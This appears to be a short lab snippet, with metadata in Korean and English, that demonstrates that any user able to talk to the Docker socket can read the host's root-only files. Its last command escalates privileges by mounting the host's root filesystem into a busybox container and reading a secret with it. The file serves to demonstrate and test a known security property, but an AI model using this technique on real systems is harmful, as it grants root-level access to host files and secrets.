# /// snippet
# lab = "docker"
# versions = ["28", "26"]
# proves = { ko = "Docker 소켓과 말할 수 있으면 호스트의 파일을 root로 읽는다.", en = "Whoever may talk to the Docker socket reads the host's files as root." }
# timeout = 240
# ///
stat -c '%A %U %G' /var/run/docker.sock
echo 'only root may read this' > /root/secret && chmod 600 /root/secret
setpriv --reuid=nobody --regid=nogroup --clear-groups cat /root/secret  # ? 1
setpriv --reuid=nobody --regid=nogroup --groups=docker docker run --rm --volume /:/host busybox cat /host/root/secret
